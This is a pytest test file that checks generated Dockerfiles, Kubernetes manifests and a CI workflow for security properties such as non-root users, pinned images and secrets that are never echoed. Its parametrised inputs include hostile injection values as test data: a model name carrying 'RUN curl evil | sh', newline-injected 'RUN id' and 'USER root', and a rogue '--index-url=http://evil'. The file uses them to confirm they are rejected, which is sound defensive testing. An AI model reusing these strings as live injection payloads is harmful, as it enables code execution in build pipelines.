"""Dockerfile, Kubernetes manifests and CI workflow generated for a package."""

from __future__ import annotations

import copy
import json
import re
from pathlib import Path
from typing import Any

import pytest
import yaml

from mlsteward.errors import InvalidArgument
from mlsteward.packaging import PackageInfo
from mlsteward.packaging._ci import ci_workflow, render_ci_workflow
from mlsteward.packaging._deploy import (
    LIVE_PATH,
    READY_PATH,
    deployment_name,
    kubernetes_manifests,
    render_dockerfile,
    render_kubernetes,
)

KEY_ID = "0123456789abcdef0123456789abcdef"


def _info(
    requirements: list[str] | None = None, model: dict[str, Any] | None = None
) -> PackageInfo:
    return PackageInfo(
        path=Path("fraud-3.mlsb"),
        metadata={
            "flavor": "sklearn",
            "model": model if model is not None else {"name": "fraud", "version": 3},
        },
        requirements=requirements if requirements is not None else ["scikit-learn==1.5.2"],
        files=(),
        key_id=KEY_ID,
        archive_size=1,
        verified=True,
    )


def _instructions(text: str) -> list[tuple[str, str]]:
    """(INSTRUCTION, arguments) of every non-comment line (no continuation lines are used)."""
    found = []
    for line in text.splitlines():
        if not line or line.startswith("#"):
            continue
        keyword, _, rest = line.partition(" ")
        found.append((keyword, rest))
    return found


def _exec_form(argument: str) -> list[str]:
    value = json.loads(argument)
    assert isinstance(value, list), argument
    assert all(isinstance(v, str) for v in value), argument
    return value


# -- Dockerfile -------------------------------------------------------------------------------


def test_dockerfile_every_instruction_is_checked() -> None:
    text = render_dockerfile(
        _info(), package_file="fraud-3.mlsb", public_key_file="signing-key.pub.pem"
    )
    assert text.startswith("# syntax=docker/dockerfile:1\n")
    instructions = _instructions(text)
    keywords = [k for k, _ in instructions]
    assert keywords[:2] == ["ARG", "FROM"]
    assert set(keywords) <= {
        "ARG", "FROM", "ENV", "LABEL", "RUN", "WORKDIR", "COPY", "USER", "EXPOSE",
        "HEALTHCHECK", "ENTRYPOINT", "CMD",
    }  # fmt: skip
    runs = []
    for keyword, rest in instructions:
        if keyword == "ARG":
            assert re.fullmatch(r"BASE_IMAGE=python:3\.11\.\d+-slim-bookworm", rest)
        elif keyword == "FROM":
            assert rest == "${BASE_IMAGE}"
        elif keyword == "RUN":
            runs.append(_exec_form(rest))
        elif keyword == "COPY":
            flags, _, argv = rest.rpartition(" --chmod=0444 ")
            assert flags == "--chown=0:0"
            assert _exec_form(argv)[1].startswith("/models/")
        elif keyword == "USER":
            assert rest == "10001:10001"
        elif keyword == "EXPOSE":
            assert rest == "8080"
        elif keyword == "HEALTHCHECK":
            options, _, argv = rest.partition(" CMD ")
            assert "--interval=" in options
            assert "--timeout=" in options
            probe = _exec_form(argv)
            assert probe[:2] == ["python", "-c"]
            assert LIVE_PATH in probe[2]
        elif keyword == "ENTRYPOINT":
            assert _exec_form(rest) == ["mlsteward"]
        elif keyword == "CMD":
            assert _exec_form(rest) == [
                "serve", "/models/model.mlsb", "--host", "0.0.0.0", "--port", "8080",
                "--trusted-key", "/models/signing-key.pub.pem",
                "--api-key-file", "/run/secrets/mlsteward/api-keys",
            ]  # fmt: skip
        elif keyword == "LABEL":
            _key, _, value = rest.partition("=")
            assert json.loads(value) in {"fraud", "3", KEY_ID}
    assert ["groupadd", "--system", "--gid", "10001", "mlsteward"] in runs
    assert any(
        r[0] == "useradd" and "--uid" in r and r[r.index("--uid") + 1] == "10001" for r in runs
    )
    verify = ["mlsteward", "package", "verify", "/models/model.mlsb", "--trusted-key",
              "/models/signing-key.pub.pem"]  # fmt: skip
    assert verify in runs
    install_lock = runs.index(
        ["python", "-m", "pip", "install", "--no-cache-dir", "scikit-learn==1.5.2"]
    )
    assert install_lock > runs.index(verify)  # nothing from the package runs before it verified
    assert keywords.index("USER") > max(i for i, k in enumerate(keywords) if k == "RUN")


def test_dockerfile_without_requirements_installs_no_lock() -> None:
    text = render_dockerfile(_info([]), package_file="p.mlsb", public_key_file="k.pem")
    runs = [_exec_form(rest) for k, rest in _instructions(text) if k == "RUN"]
    assert [r[-1] for r in runs if r[:3] == ["python", "-m", "pip"]] == ["mlsteward==0.1.0"]


@pytest.mark.parametrize("base", ["python", "python:latest", "Python:3.11", "a b:1", "x:1\nRUN id"])
def test_dockerfile_refuses_unpinned_or_malformed_base_images(base: str) -> None:
    with pytest.raises(InvalidArgument):
        render_dockerfile(_info(), package_file="p.mlsb", public_key_file="k.pem", base_image=base)


def test_dockerfile_accepts_a_digest() -> None:
    base = "registry.example.com:5000/python@sha256:" + "a" * 64
    text = render_dockerfile(
        _info(), package_file="p.mlsb", public_key_file="k.pem", base_image=base
    )
    assert f"ARG BASE_IMAGE={base}\n" in text


@pytest.mark.parametrize("name", ["../p.mlsb", "/abs.mlsb", "a b.mlsb", "x\nRUN id", ""])
def test_dockerfile_refuses_file_names_outside_the_context(name: str) -> None:
    with pytest.raises(InvalidArgument, match="plain file name"):
        render_dockerfile(_info(), package_file=name, public_key_file="k.pem")


@pytest.mark.parametrize(
    "line", ["--index-url=http://evil", "numpy>=1", "numpy==1 --hash=sha256:" + "a" * 64]
)
def test_dockerfile_refuses_lock_lines_that_are_not_plain_pins(line: str) -> None:
    with pytest.raises(InvalidArgument):
        render_dockerfile(_info([line]), package_file="p.mlsb", public_key_file="k.pem")


def test_hostile_model_names_never_reach_the_dockerfile() -> None:
    info = _info(model={"name": 'x"\nRUN curl evil | sh', "version": "1\nUSER root"})
    text = render_dockerfile(info, package_file="p.mlsb", public_key_file="k.pem")
    assert "evil" not in text
    assert "USER root" not in text


# -- Kubernetes -------------------------------------------------------------------------------


def _manifests(**options: Any) -> list[dict[str, Any]]:
    return list(yaml.safe_load_all(render_kubernetes(_info(), image="fraud:3", **options)))


def test_deployment_and_service_structure() -> None:
    deployment, service = _manifests(replicas=3, cpu="250m", memory="512Mi")
    assert (deployment["apiVersion"], deployment["kind"]) == ("apps/v1", "Deployment")
    assert (service["apiVersion"], service["kind"]) == ("v1", "Service")
    spec = deployment["spec"]
    assert spec["replicas"] == 3
    pod = spec["template"]["spec"]
    selector = spec["selector"]["matchLabels"]
    assert selector.items() <= spec["template"]["metadata"]["labels"].items()
    assert service["spec"]["selector"] == selector
    assert pod["securityContext"]["runAsNonRoot"] is True
    assert pod["automountServiceAccountToken"] is False
    [container] = pod["containers"]
    assert container["image"] == "fraud:3"
    port_names = {p["name"]: p["containerPort"] for p in container["ports"]}
    assert port_names == {"http": 8080}
    assert container["readinessProbe"]["httpGet"] == {"path": READY_PATH, "port": "http"}
    assert container["livenessProbe"]["httpGet"] == {"path": LIVE_PATH, "port": "http"}
    assert container["resources"] == {
        "requests": {"cpu": "250m", "memory": "512Mi"},
        "limits": {"cpu": "250m", "memory": "512Mi"},
    }
    security = container["securityContext"]
    assert security["runAsNonRoot"] is True
    assert security["readOnlyRootFilesystem"] is True
    assert security["allowPrivilegeEscalation"] is False
    assert security["capabilities"] == {"drop": ["ALL"]}
    mounts = {m["name"]: m["mountPath"] for m in container["volumeMounts"]}
    assert mounts == {"tmp": "/tmp", "api-keys": "/run/secrets/mlsteward"}
    assert {v["name"] for v in pod["volumes"]} == set(mounts)
    keys = next(v for v in pod["volumes"] if v["name"] == "api-keys")
    assert keys["secret"]["secretName"] == f"{deployment['metadata']['name']}-api-keys"
    assert service["spec"]["ports"][0]["targetPort"] == "http"


def test_manifests_validate_against_the_kubernetes_schemas() -> None:
    from kubernetes_validate import utils  # a dev dependency: CI fails rather than skips

    version = str(utils.latest_version())
    for document in _manifests():
        utils.validate(document, version, strict=True)
    broken = copy.deepcopy(_manifests()[0])  # the validator does refuse a wrong manifest
    broken["spec"]["replicas"] = "two"
    with pytest.raises(utils.ValidationError):
        utils.validate(broken, version, strict=True)


@pytest.mark.parametrize(
    ("options", "message"),
    [
        ({"image": "fraud"}, "not pinned"),
        ({"image": "fraud:latest"}, "not pinned"),
        ({"image": "fraud:3", "name": "Fraud_Model"}, "not a Kubernetes name"),
        ({"image": "fraud:3", "replicas": -1}, "replicas"),
        ({"image": "fraud:3", "replicas": True}, "replicas"),
        ({"image": "fraud:3", "cpu": "lots"}, "CPU quantity"),
        ({"image": "fraud:3", "memory": "1 GB"}, "memory quantity"),
    ],
)
def test_bad_kubernetes_options(options: dict[str, Any], message: str) -> None:
    with pytest.raises(InvalidArgument, match=message):
        kubernetes_manifests(_info(), **options)


@pytest.mark.parametrize(
    ("name", "expected"),
    [("fraud", "fraud"), ("Fraud_Model.v2", "fraud-model-v2"), ("3d", "model-3d"), ("", "model")],
)
def test_deployment_names_are_dns_labels(name: str, expected: str) -> None:
    assert deployment_name(_info(model={"name": name})) == expected


# -- CI workflow ------------------------------------------------------------------------------


def test_ci_workflow_builds_tests_signs_verifies_and_publishes() -> None:
    text = render_ci_workflow()
    workflow = yaml.safe_load(text)
    assert "workflow_dispatch" in workflow["on"]
    assert workflow["permissions"] == {"contents": "read"}
    steps = workflow["jobs"]["package"]["steps"]
    scripts = "\n".join(s.get("run", "") for s in steps)
    for command in (
        "mlsteward package build",
        "mlsteward package test",
        "mlsteward package verify",
    ):
        assert command in scripts
    assert scripts.index("package build") < scripts.index("package verify")
    assert scripts.index("package verify") < scripts.index("package test")
    assert any(s.get("uses", "").startswith("actions/upload-artifact@") for s in steps)
    key_step = next(s for s in steps if "MLSTEWARD_SIGNING_KEY" in str(s.get("env", {})))
    assert key_step["env"]["SIGNING_KEY"] == "${{ secrets.MLSTEWARD_SIGNING_KEY }}"
    cleanup = next(s for s in steps if s.get("if") == "always()")
    assert "rm -f" in cleanup["run"]
    release = workflow["jobs"]["release"]
    assert release["permissions"] == {"contents": "write"}
    assert any("gh release create" in s.get("run", "") for s in release["steps"])


def test_ci_workflow_never_echoes_or_inlines_a_secret() -> None:
    workflow = ci_workflow()
    secret_vars = set()
    for job in workflow["jobs"].values():
        for name, value in job.get("env", {}).items():
            if "secrets." in value:
                secret_vars.add(name)
        for step in job["steps"]:
            assert "${{" not in step.get("run", ""), step["name"]  # no expression in scripts
            for name, value in step.get("env", {}).items():
                if "secrets." in value:
                    secret_vars.add(name)
    assert {"SIGNING_KEY", "MLSTEWARD_DATABASE_URL"} <= secret_vars
    for job in workflow["jobs"].values():
        for step in job["steps"]:
            for line in step.get("run", "").splitlines():
                for name in secret_vars:
                    if f"${name}" in line or f"${{{name}}}" in line:
                        assert line.startswith("printf"), line
                        assert " > " in line, line
                assert "set -x" not in line


def test_ci_workflow_rejects_bad_options() -> None:
    with pytest.raises(InvalidArgument):
        ci_workflow(model_uri="fraud\nrun: evil")
    with pytest.raises(InvalidArgument):
        ci_workflow(python_version="2.7")
